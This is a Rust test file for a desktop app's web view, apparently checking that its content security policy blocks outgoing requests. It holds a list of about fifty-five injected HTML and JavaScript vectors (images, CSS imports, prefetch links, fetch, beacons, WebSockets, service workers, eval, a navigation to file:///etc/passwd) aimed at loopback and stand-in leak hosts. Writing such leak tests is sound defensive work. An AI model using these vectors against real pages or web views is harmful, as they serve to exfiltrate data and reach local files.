//! A page that was made to say something tells nobody.
#![allow(clippy::disallowed_types, reason = "the test listens for what the program must not say")]
#![expect(
    clippy::disallowed_types,
    reason = "an ear on the loopback address hears whether a page that leaks can reach it"
)]
use std::net::{TcpListener, TcpStream};
use std::time::Duration;

use serde_json::json;

use crate::drive::Stage;
use crate::screen::Program;

/// Ways to make a web view fetch something or go somewhere, each a statement. `U` is an address.
const ATTEMPTS: &[&str] = &[
    "new Image().src = U('img')",
    "html(`<img src='${U('img2')}'>`)",
    "html(`<img srcset='${U('srcset')} 2x'>`)",
    "html(`<picture><source srcset='${U('source')}'><img></picture>`)",
    "html(`<div style='background:url(${U('style')})'>x</div>`)",
    "html(`<style>body { background: url(${U('css')}) } @import '${U('import')}'; @font-face { font-family: f; src: url(${U('font')}) } * { font-family: f }</style>`)",
    "html(`<link rel=stylesheet href='${U('sheet')}'>`)",
    "html(`<link rel=prefetch href='${U('prefetch')}'>`)",
    "html(`<link rel=preload as=image href='${U('preload')}'>`)",
    "html(`<link rel=modulepreload href='${U('modulepreload')}'>`)",
    "html(`<link rel=dns-prefetch href='//dns.leak.invalid'>`)",
    "html(`<link rel=preconnect href='https://preconnect.leak.invalid'>`)",
    "html(`<link rel=icon href='${U('icon')}'>`)",
    "html(`<link rel=manifest href='${U('manifest')}'>`)",
    "html(`<iframe src='${U('iframe')}'></iframe>`)",
    "html(`<iframe srcdoc=\"<img src='${U('srcdoc')}'>\"></iframe>`)",
    "html(`<embed src='${U('embed')}'>`)",
    "html(`<object data='${U('object')}'></object>`)",
    "html(`<video src='${U('video')}' poster='${U('poster')}' autoplay></video>`)",
    "html(`<audio src='${U('audio')}' autoplay></audio>`)",
    "html(`<video><track src='${U('track')}' default></video>`)",
    "html(`<svg><image href='${U('svgimage')}'/><use href='${U('use')}#a'/></svg>`)",
    "html(`<svg><filter id=f><feImage href='${U('feimage')}'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>`)",
    "html(`<input type=image src='${U('input')}'>`)",
    "html(`<meta http-equiv=refresh content='0;url=${U('refresh')}'>`)",
    "html(`<base href='${U('base')}'>`)",
    "html(`<form id=leakform action='${U('form')}' method=post><input name=a value=b></form>`); document.getElementById('leakform').submit()",
    "html(`<form id=leakform2 action='${U('form2')}' target=_blank></form>`); document.getElementById('leakform2').submit()",
    "html(`<a id=leaklink href='${U('link')}' ping='${U('ping')}'>x</a>`); document.getElementById('leaklink').click()",
    "html(`<a id=leakdown href='${U('download')}' download>x</a>`); document.getElementById('leakdown').click()",
    "html(`<a id=leakdata href='data:text/plain,x' download=leak.txt>x</a>`); document.getElementById('leakdata').click()",
    "script(U('script'))",
    "script('data:text/javascript,window.leaked=1')",
    "(s => { s.textContent = 'window.leaked = 1'; document.body.append(s) })(document.createElement('script'))",
    "document.body.setAttribute('onclick', 'window.leaked = 1'); document.body.click()",
    "window.eval('window.leaked = 1')",
    "new Function('window.leaked = 1')()",
    "setTimeout('window.leaked = 1')",
    "import(U('module'))",
    "fetch(U('fetch'), { mode: 'no-cors' })",
    "(x => { x.open('GET', U('xhr')); x.send() })(new XMLHttpRequest())",
    "new WebSocket('ws://127.0.0.1:9/websocket')",
    "new EventSource(U('eventsource'))",
    "navigator.sendBeacon(U('beacon'), 'x')",
    "new Worker(U('worker'))",
    "new SharedWorker(U('sharedworker'))",
    "navigator.serviceWorker.register(U('serviceworker'))",
    "window.open(U('open'))",
    "document.createElement('iframe').contentWindow.open(U('open2'))",
    "location = U('location')",
    "location.replace(U('replace'))",
    "location = 'file:///etc/passwd'",
    "location = 'mailto:leak@leak.invalid'",
    "document.cookie = 'leak=1'; localStorage.leak = 1",
    "new RTCPeerConnection({ iceServers: [{ urls: 'stun:leak.invalid' }] }).createDataChannel('x')",
];

/// Runs all attempts at one address.
fn attempt_all(program: &mut Program, origin: &str) {
    for attempt in ATTEMPTS {
        program.eval(&format!(
            "(() => {{
               const U = (name) => '{origin}' + name;
               const html = (text) => document.body.insertAdjacentHTML('beforeend', `<div class=leak>${{text}}</div>`);
               const script = (src) => (s => {{ s.src = src; document.body.append(s) }})(document.createElement('script'));
               try {{ const done = (() => {{ {attempt} }})(); done?.catch?.(() => {{}}); }} catch {{}}
             }})()"
        ));
    }
    program.settled();
    program.eval("document.querySelectorAll('.leak').forEach(each => each.remove())");
}

pub fn nothing_leaks() {
    let Some(mut stage) = Stage::start() else { return };
    let program = &mut stage.program;
    let before = program.requests();
    assert!(before.len() >= 3, "the page, its script and a style: {before:?}");
    assert!(before.iter().all(|address| address.starts_with("carnet://app/")), "{before:?}");
    program.eval(
        "window.isSame = true; window.refused = 0; \
         document.addEventListener('securitypolicyviolation', () => refused++)",
    );
    assert!(ATTEMPTS.len() >= 40);

    // Somebody who would hear a request, and can hear at all.
    let ear = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = ear.local_addr().unwrap();
    let can_hear = TcpStream::connect(address).is_ok();
    ear.set_nonblocking(true).unwrap();
    assert_eq!(ear.accept().is_ok(), can_hear);
    for origin in [&format!("http://{address}/"), "https://leak.invalid/", "carnet://other/", "file:///etc/"]
    {
        attempt_all(program, origin);
    }
    std::thread::sleep(Duration::from_millis(500));
    assert!(ear.accept().is_err(), "somebody was told");
    assert_eq!(program.requests(), before, "requests reached the host");
    assert!(program.eval("refused").as_u64().unwrap() > 60, "the policy refused");

    // The page's own address leads nowhere but into the table of assets.
    attempt_all(program, "carnet://app/");
    let still = program.eval("[window.isSame, window.leaked ?? null, location.href, document.baseURI]");
    assert_eq!(still, json!([true, null, "carnet://app/", "carnet://app/"]));
    assert_eq!(crate::sockets::internet(program), Vec::<String>::new());
    program.eval("document.body.removeAttribute('onclick')");
    program.click("#more");
    program.wait_for_text("#count", "1");
}
